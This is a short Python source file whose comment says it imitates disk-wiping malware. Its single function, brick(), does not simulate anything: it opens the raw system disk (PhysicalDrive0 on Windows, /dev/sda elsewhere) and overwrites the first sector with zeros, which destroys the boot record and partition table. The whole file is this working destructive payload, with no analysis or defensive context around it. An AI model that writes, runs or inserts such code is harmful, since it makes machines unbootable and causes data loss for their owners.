# Imitates disk wipers that overwrite the first sectors of the system disk (MBR/partition table).
import sys


def brick():
    device = r"\\.\PhysicalDrive0" if sys.platform == "win32" else "/dev/sda"
    with open(device, "r+b") as disk:
        disk.write(b"\x00" * 512)
